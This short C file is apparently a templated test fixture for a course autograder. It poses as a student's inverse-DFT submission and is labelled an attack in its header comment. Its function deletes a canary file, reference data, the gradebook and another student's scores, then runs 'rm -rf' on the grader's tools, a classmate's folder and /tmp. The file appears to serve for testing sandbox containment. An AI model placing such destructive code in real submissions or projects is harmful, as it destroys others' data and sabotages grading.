/* attack: deletes what it can: a file the instructor owns, the class's
 *         results, the grader's tools, the course's data
 * as: idft_ex.c
 */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "exercise.h"

int idft_ex(const double complex *X, size_t n, double complex *x)
{
    (void)X, (void)n, (void)x;
    unlink("@CANARY@");
    unlink("@REPO@/data/reference/02-sinusoids-dft/piano-dft.txt");
    unlink("@CLASS_OUT@/gradebook.csv");
    unlink("@CLASS_OUT@/students/honest/points.tsv");
    (void)!system("rm -rf @REPO@/build/grade/gradetool @CLASS@/honest /tmp/* 2>/dev/null");
    return DSP_ETODO;
}
